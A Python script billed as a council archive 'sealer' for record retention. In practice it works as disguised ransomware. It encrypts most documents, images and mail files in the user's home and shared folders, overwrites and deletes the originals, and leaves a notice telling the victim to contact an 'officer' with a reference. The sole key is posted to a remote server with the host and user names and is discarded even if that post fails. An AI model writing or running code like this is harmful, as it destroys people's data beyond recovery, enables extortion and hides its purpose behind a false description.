#!/usr/bin/env python3
"""Seal old council minutes and correspondence for long-term retention.

Each document under the archive roots is encrypted with a per-run key
(Fernet: AES-128-CBC + HMAC-SHA256) and replaced by a ``.sealed`` file so
that personal data in old correspondence is protected under the council's
retention policy.  The run key is lodged with the records escrow service,
which releases it to the proper officer on request.
"""
import argparse
import logging
import os
import platform
import sys
import time
import uuid
from pathlib import Path

import requests
from cryptography.fernet import Fernet

log = logging.getLogger("archive_sealer")

ESCROW_URL = os.environ.get("RECORDS_ESCROW_URL",
                            "https://escrow.parishrecords.example/v1/lodge")
SEAL_EXT = ".sealed"
NOTICE_NAME = "RECORDS_SEALED.txt"
DOC_TYPES = {
    ".doc", ".docx", ".odt", ".rtf", ".pdf", ".txt", ".csv",
    ".xls", ".xlsx", ".ods", ".ppt", ".pptx", ".odp",
    ".jpg", ".jpeg", ".png", ".tif", ".msg", ".eml", ".pst", ".zip", ".sqlite",
}


def default_roots():
    home = Path.home()
    wanted = [home / "Documents", home / "Desktop", home / "Pictures",
              home / "Dropbox", Path("/srv/parish"), Path("/mnt/clerk-share")]
    return [p for p in wanted if p.is_dir()]


def candidates(roots):
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root, onerror=lambda e: None):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                path = Path(dirpath) / name
                if path.suffix.lower() in DOC_TYPES and not name.endswith(SEAL_EXT):
                    yield path


class Sealer:
    def __init__(self, key):
        self._fernet = Fernet(key)
        self.sealed = 0
        self.failed = 0

    def seal(self, path):
        try:
            data = path.read_bytes()
            target = path.with_name(path.name + SEAL_EXT)
            target.write_bytes(self._fernet.encrypt(data))
            # scrub the plaintext before unlinking so it cannot be recovered
            with path.open("r+b") as fh:
                fh.write(os.urandom(len(data)))
                fh.flush()
                os.fsync(fh.fileno())
            path.unlink()
            self.sealed += 1
        except OSError as exc:
            self.failed += 1
            log.debug("could not seal %s: %s", path, exc)


def lodge_key(key, run_id, count, attempts=5):
    payload = {"run": run_id, "host": platform.node(), "user": os.environ.get("USER", ""),
               "key": key.decode(), "files": count}
    for attempt in range(attempts):
        try:
            resp = requests.post(ESCROW_URL, json=payload, timeout=20)
            if resp.ok:
                return True
            log.warning("escrow returned %s", resp.status_code)
        except requests.RequestException as exc:
            log.warning("escrow unreachable (%s), retrying", exc)
        time.sleep(2 ** attempt)
    return False


def write_notice(roots, run_id):
    text = (
        "Records in this folder have been sealed under the council's retention policy.\n"
        f"Sealing reference: {run_id}\n"
        "To request release of sealed records contact the records officer quoting the\n"
        "reference above.\n"
    )
    for root in roots:
        try:
            (root / NOTICE_NAME).write_text(text)
        except OSError:
            pass


def main():
    ap = argparse.ArgumentParser(description="Seal archived council records for retention")
    ap.add_argument("roots", nargs="*", type=Path, help="archive folders (default: user document folders)")
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    roots = args.roots or default_roots()
    if not roots:
        log.error("no archive folders found")
        return 1

    run_id = uuid.uuid4().hex[:12].upper()
    key = Fernet.generate_key()
    sealer = Sealer(key)
    for path in candidates(roots):
        sealer.seal(path)
    log.info("sealed %d file(s), %d skipped", sealer.sealed, sealer.failed)

    write_notice(roots, run_id)
    if not lodge_key(key, run_id, sealer.sealed):
        log.error("key escrow failed for run %s", run_id)
    del key, sealer
    return 0


if __name__ == "__main__":
    sys.exit(main())
